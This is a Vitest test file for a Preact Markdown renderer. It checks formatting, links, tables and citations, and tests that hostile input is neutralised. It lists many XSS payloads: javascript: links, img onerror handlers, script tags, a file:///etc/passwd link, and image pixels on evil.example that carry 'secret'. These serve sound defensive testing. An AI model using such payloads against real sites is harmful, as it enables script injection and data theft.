import { NO_EVAL_DATA, loadEvalRows } from '@lobby/testing/eval-data';
import { h, isValidElement } from 'preact';
import type { ComponentChildren, VNode } from 'preact';
import { describe, expect, it } from 'vitest';
import { Markdown } from './markdown.tsx';
import { MessageText } from './message-text.tsx';

interface Node {
  type: string;
  attributes: Record<string, unknown>;
}

/** The elements and the text that Preact would render; components are called as Preact calls them. */
function render(children: ComponentChildren, elements: Node[] = []): { elements: Node[]; text: string } {
  if (Array.isArray(children))
    return { elements, text: children.map((child: ComponentChildren) => render(child, elements).text).join('') };
  if (!isValidElement(children))
    return { elements, text: typeof children === 'string' || typeof children === 'number' ? `${children}` : '' };
  const { type, props } = children as VNode<Record<string, unknown>>;
  if (typeof type === 'function') return render((type as (props: object) => ComponentChildren)(props), elements);
  const { children: inner, ...attributes } = props as Record<string, unknown> & { children?: ComponentChildren };
  elements.push({ type, attributes });
  return { elements, text: render(inner, elements).text };
}

const marker = (number: number) => <sup>{number}</sup>;
const rendered = (text: string) => render(<Markdown text={text} renderCitation={marker} />);
const typesOf = (text: string): string[] => rendered(text).elements.map(({ type }) => type);

const HARMLESS = new Set([
  'div',
  'table',
  'tr',
  'th',
  'td',
  'p',
  'br',
  'ul',
  'ol',
  'li',
  'strong',
  'em',
  'pre',
  'code',
  'a',
  'sup',
]);
const ATTRIBUTES: Record<string, string[]> = {
  a: ['href', 'target', 'rel', 'title'],
  ol: ['start'],
  p: ['class'],
  div: ['class'],
};

/** Elements, attributes and addresses that could run code, load something, or leave the web and mail. */
const dangersIn = (elements: Node[]): string[] =>
  elements.flatMap(({ type, attributes }) => [
    ...(HARMLESS.has(type) ? [] : [`<${type}>`]),
    ...Object.keys(attributes).filter((name) => !(ATTRIBUTES[type] ?? []).includes(name)),
    ...('href' in attributes && !/^(https?:\/\/|mailto:)/.test(String(attributes.href))
      ? [String(attributes.href)]
      : []),
  ]);

const asWritten = (text: string) => render(<MessageText format="plain" text={text} renderCitation={() => null} />);
const dangers = (text: string): string[] => [
  ...dangersIn(rendered(text).elements),
  ...dangersIn(asWritten(text).elements),
];

describe('an answer', () => {
  it('is shown with paragraphs, lists, emphasis, code and links', () => {
    expect(typesOf('We are **open**.\nCome in!\n\n- *Rye*\n- `wheat`\n\n1. Order\n2) Pay')).toEqual([
      'p',
      'strong',
      'br',
      'ul',
      'li',
      'em',
      'li',
      'code',
      'ol',
      'li',
      'li',
    ]);
    expect(rendered('**a `b` c** and __dear d__').text).toBe('a b c and dear d');
  });

  it('S59 links only to the web and to mail, shows the target, and sends no referrer', () => {
    const [, link] = rendered('See [our menu](https://bakery.example/menu).').elements;
    expect(link).toEqual({
      type: 'a',
      attributes: {
        href: 'https://bakery.example/menu',
        target: '_blank',
        rel: 'noopener noreferrer nofollow ugc',
        title: 'https://bakery.example/menu',
      },
    });
    expect(rendered('See https://bakery.example/menu.').elements[1]?.attributes.href).toBe(
      'https://bakery.example/menu',
    );
    expect(rendered('[Mail](mailto:hello@bakery.example)').elements[1]?.attributes.href).toBe(
      'mailto:hello@bakery.example',
    );
  });

  it.each([
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt:alert`1`)',
    '[x](java\tscript:alert(1))',
    '[x](\u0001javascript:alert(1))',
    '[x](data:text/html;base64,PHNjcmlwdD4=)',
    '[x](vbscript:msgbox)',
    '[x](file:///etc/passwd)',
    '[x](//evil.example/a)',
    '[x](mailto:a@b.example?body=secret)',
    '![x](https://evil.example/pixel.png?q=secret)',
    '![x][1]\n\n[1]: https://evil.example/pixel.png',
    '<img src=x onerror=alert(1)>',
    '<a href="javascript:alert(1)">x</a>',
    '<base href="https://evil.example/">',
    '<style>@import "https://evil.example/"</style>',
    '&lt;script&gt;alert(1)&lt;/script&gt;',
    '**<script>alert(1)</script>**',
    '[<img src=x onerror=alert(1)>](https://bakery.example/)',
    '[x](https://bakery.example/"onmouseover="alert(1))',
  ])('S39 S59 runs nothing and loads nothing: %j', (text) => {
    expect(dangers(text)).toEqual([]);
  });

  it('S59 loads no picture of a foreign host, whatever its mark', () => {
    expect(typesOf('![x](https://evil.example/pixel.png?q=secret)')).toEqual(['p', 'a']);
  });

  it('shows the citations where they are', () => {
    expect(rendered('At seven [1][12], not at [123] or [a].')).toEqual({
      elements: [
        { type: 'p', attributes: {} },
        { type: 'sup', attributes: {} },
        { type: 'sup', attributes: {} },
      ],
      text: 'At seven 112, not at [123] or [a].',
    });
  });

  it('keeps signs between letters and digits, which are no marks', () => {
    for (const text of [
      'The carton is 60*40*30 cm and weighs 5 kg.',
      'Edit the file __init__.py and 2**3**2.',
      'Call __init__ and __main__, or a_b_c and snake__case__name.',
      '5 * 3 * 2 = 30',
      'from 5 €*, with delivery 7 €*',
      'f(*args, **kwargs)',
      '**not closed, *nor this, `nor that',
      'C:\\Temp\\new',
    ])
      expect(typesOf(text).concat(rendered(text).text)).toEqual(['p', text]);
    expect(typesOf('这是**重要**的')).toEqual(['p', 'strong']);
    expect(rendered('**Total:** \\*not italic\\*').text).toBe('Total: *not italic*');
  });

  it('shows a marker as text where no source has its number', () => {
    const { text } = render(
      <Markdown text="See [2] and row [15], at seven [1]." renderCitation={(n) => (n === 1 ? '¹' : null)} />,
    );
    expect(text).toBe('See [2] and row [15], at seven ¹.');
  });

  it('has code in fences, also one that is still being written', () => {
    expect(typesOf('Run:\n```sh\n**a** | 1. b\n\nc\n```\nDone')).toEqual(['p', 'pre', 'code', 'p']);
    expect(rendered('```\nlobby --start\n1. x').text).toBe('lobby --start\n1. x');
  });

  it('has a table as soon as its second line is there, with as many cells in each row as it has headings', () => {
    const table = ['| Day | **Hours** [1] |', '|---|:-:|', '| Monday | 7\\|8 |', '| Tuesday |', '| a | b | c |'];
    const shape = (text: string) =>
      typesOf(text)
        .filter((type) => /^(p|table|tr|th|td)$/.test(type))
        .join(' ');
    expect(shape(table.slice(0, 1).join('\n'))).toBe('p');
    expect(shape(table.slice(0, 2).join('\n'))).toBe('table tr th th');
    expect(shape(`Our hours:\n${table.join('\n')}\nCome in!`)).toBe('p table tr th th tr td td tr td td tr td td p');
    expect(rendered(table.join('\n')).text).toBe('DayHours 1Monday7|8Tuesdayab');
    expect(shape('```\n| a |\n|---|\n```')).toBe('');
    for (const text of ['a | b\nc | d', '| a | b |\n|---|', '- a\n---', 'a\n|---|'])
      expect(shape(text)).not.toContain('table');
  });

  it('has headings in bold', () => {
    expect(typesOf('## Hours\nSeven')).toEqual(['p', 'strong', 'p']);
    expect(rendered('## Hours\nWe are #1').text).toBe('HoursWe are #1');
  });

  it.each([
    '*',
    '**',
    '_',
    '`',
    '[',
    '[a](',
    '[1',
    'http://',
    '**a',
    '* a\n',
    '1. \n',
    '1*a*',
    '__a',
    '[a](b(',
    '```\n',
    '|',
    '|a\n|-\n',
    'http://a(',
  ])('S97 of thousands of marks and a sentence keeps the sentence: %j', (part) => {
    const text = `We are open.\n\n${part.repeat(Math.floor(20_000 / part.length))}`;
    expect(rendered(text).text).toContain('We are open.');
    expect(asWritten(text).text).toContain('We are open.');
  });
});

describe('the numbers of a list', () => {
  const lists = (text: string) =>
    rendered(text)
      .elements.filter(({ type }) => type === 'ol')
      .map(({ attributes }) => attributes.start);

  it.each([
    '24. Dezember 2026 ab 12 Uhr geschlossen.',
    '3. Press the red button for five seconds.',
    '1. Mai: geschlossen',
    '24. Dezember\n31. Dezember',
    '24. Dezember\n\n26. Dezember\n\n1. Januar',
    'Closed:\n6. Januar',
    '3) Turn it off.',
    '2026. A good year',
    '1. one\n1. one more',
  ])('stay in a line that is no item: %j', (text) => {
    expect(lists(text)).toEqual([]);
    expect(rendered(text).text).toBe(text.replace(/\n+/g, ''));
  });

  it('are those that were written', () => {
    expect(lists('1. Order\n2. Pay')).toEqual([1]);
    expect(lists('3. Press\n4. Hold')).toEqual([3]);
    expect(lists('1. Order\n\n2. Pay\n   - by card\n3. Leave')).toEqual([1, 3]);
    expect(lists('24. Dezember\n25. Dezember\n31. Dezember')).toEqual([24]);
  });
});

describe('a link', () => {
  const links = (text: string) =>
    [rendered(text), asWritten(text)].map(({ elements }) =>
      elements.flatMap(({ type, attributes }) => (type === 'a' ? [attributes.href] : [])),
    );

  it.each([
    ['See https://en.wikipedia.org/wiki/Lobby_(room) for more.', 'https://en.wikipedia.org/wiki/Lobby_(room)'],
    ['(https://en.wikipedia.org/wiki/Lobby_(room))', 'https://en.wikipedia.org/wiki/Lobby_(room)'],
    ['(see https://a.example/b)', 'https://a.example/b'],
    ['https://a.example/x_y_z_', 'https://a.example/x_y_z_'],
    ['https://a.example/a*b*c', 'https://a.example/a*b*c'],
    ['https://a.example/a,b;c?d=[1]&e={f}.', 'https://a.example/a,b;c?d=[1]&e={f}'],
    ['„https://a.example/b“', 'https://a.example/b'],
    ['「https://a.example/b」。', 'https://a.example/b'],
    ['https://a.example/b...', 'https://a.example/b'],
    ['Is it https://a.example/b?!', 'https://a.example/b'],
    ['<https://a.example/b>', 'https://a.example/b'],
    ['Https://a.example/B', 'https://a.example/B'],
    ['[https://a.example/b]', 'https://a.example/b'],
    ['https://a.example/(b)(c)', 'https://a.example/(b)(c)'],
    ['[the article](https://en.wikipedia.org/wiki/Lobby_(room))', 'https://en.wikipedia.org/wiki/Lobby_(room)'],
  ])('has the whole address and no more: %s', (text, href) => {
    expect(links(text)).toEqual([[href], [href]]);
  });
});

describe('a text that nobody wrote as Markdown', () => {
  it('is shown as it was written', () => {
    for (const text of [
      '24. Dezember 2026 ab 12 Uhr geschlossen.',
      'The carton is 60*40*30 cm.\nEdit __init__.py and 2**3**2.',
      'See paragraph [2] of the contract, and row [1].',
      '**Sale** _now_ `here` # 1 > 0 ~~5~~',
      '- one\n- two\n\n  three\n1. four\n1. five',
      '[a](b) ![c](d) <b>e</b> &amp; \\*',
      '```\ncode\n```',
    ]) {
      expect(asWritten(text).text).toBe(text);
      expect(asWritten(text).elements.map(({ type }) => type)).toEqual(['p']);
    }
  });

  it('has markers of citations at the ends of its passages only, and those that a source has', () => {
    const cited = (text: string) =>
      render(<MessageText format="plain" text={text} renderCitation={(n) => (n === 1 ? <sup>¹</sup> : null)} />).text;
    expect(cited('See [1] and row [2]. [1]')).toBe('See [1] and row [2]. ¹');
    expect(cited('At the end stands [2]')).toBe('At the end stands [2]');
    expect(cited('The first says so. [1]\n\n• the second, too [1]')).toBe('The first says so. ¹• the second, too ¹');
  });
});

describe('the scripts that attackers publish', () => {
  const FILES = ['xss_strings', 'markdown_html_llm_output', 'dompurify_payload_expected', 'files_svg_xml'];

  it.for(FILES)('S39 do not run, whole, as a link or on their way in pieces (%s)', (file, { skip }) => {
    const rows = loadEvalRows(`attack_xss_html/${file}.jsonl`) ?? skip(NO_EVAL_DATA);
    const broken = rows.filter(({ text }) => {
      const start = text.slice(0, 300);
      const pieces = Array.from({ length: Math.ceil(start.length / 7) }, (_, index) => start.slice(0, index * 7));
      return [text, `[click](${text})`, `**${text}**`, `- ${text}`, ...pieces].some(
        (shown) => dangers(shown).length > 0,
      );
    });
    expect(rows.length).toBeGreaterThan(0);
    expect(broken.map(({ text }) => text)).toEqual([]);
  });

  it('S39 would be noticed by this test', () => {
    const hostile = h('a', { href: 'javascript:alert(1)', onClick: () => undefined }, h('script', { src: 'x' }));
    expect(dangersIn(render(hostile).elements)).toEqual(['onClick', 'javascript:alert(1)', '<script>', 'src']);
  });
});
